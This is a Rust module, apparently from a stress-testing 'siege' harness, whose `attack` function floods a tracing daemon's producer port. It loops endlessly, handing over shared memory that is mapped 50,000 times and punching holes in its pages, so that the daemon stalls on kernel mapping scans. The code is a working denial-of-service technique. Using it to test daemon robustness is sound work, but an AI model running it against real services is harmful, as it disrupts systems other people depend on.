//! Memory that is mapped very often, and whose pages are freed while the daemon maps and unmaps it: both wait for the
//! kernel to look at all mappings.
#![allow(unsafe_code)]

use std::convert::Infallible;
use std::os::fd::{AsFd as _, OwnedFd};

use abi::ipc::port::ProducerPort;
use client::connection::{Attachment, Connection as _, SocketConnection};
use os::shm;
use protos::InitializeConnectionRequest;
use protos::producer_port::Request;
use rustix::fs::{FallocateFlags, fallocate};
use rustix::mm::{MapFlags, ProtFlags, mmap};

use super::Target;

/// A process may have some 65,000.
const MAPPINGS: u64 = 50_000;
pub(super) const MEMORY_BYTES: u64 = 1 << 20;
const PAGE_BYTES: u64 = 4096;

/// Connects with such memory and leaves, again and again.
pub(super) fn attack(target: &Target) -> Infallible {
    // Without it this user would attack less than it should, and nobody would see it: the siege ends then.
    let memory = memory().unwrap_or_else(|| std::process::exit(1));
    loop {
        let connected = SocketConnection::<ProducerPort>::connect(&target.producers);
        let Ok(mut link) = connected else { continue };
        let hello = InitializeConnectionRequest {
            producer_name: Some("mappings".into()),
            shared_memory_page_size_hint_bytes: Some(PAGE_BYTES as u32),
            shared_memory_size_hint_bytes: Some(MEMORY_BYTES as u32),
            producer_provided_shmem: Some(true),
            ..Default::default()
        };
        let attachment = memory.try_clone().map_or(Attachment::None, Attachment::File);
        let _ = link.send(Request::InitializeConnection(hello), true, attachment);
        for _ in 0..4 {
            let free = FallocateFlags::PUNCH_HOLE | FallocateFlags::KEEP_SIZE;
            let _ = fallocate(&memory, free, 0, MEMORY_BYTES);
        }
    }
}

/// Sealed memory with [`MAPPINGS`] mappings, which stay until the process ends.
fn memory() -> Option<OwnedFd> {
    let region = shm::create(MEMORY_BYTES as usize).ok()?;
    let memory = region.fd()?.as_fd().try_clone_to_owned().ok()?;
    for number in 0..MAPPINGS {
        let offset = number * 7 % (MEMORY_BYTES / PAGE_BYTES) * PAGE_BYTES;
        let (access, shared) = (ProtFlags::READ | ProtFlags::WRITE, MapFlags::SHARED);
        // SAFETY: no address is asked for, so nothing that is mapped already is replaced; nobody uses the mapping.
        let mapped = unsafe {
            mmap(std::ptr::null_mut(), PAGE_BYTES as usize, access, shared, &memory, offset)
        };
        mapped.ok()?;
    }
    Some(memory)
}
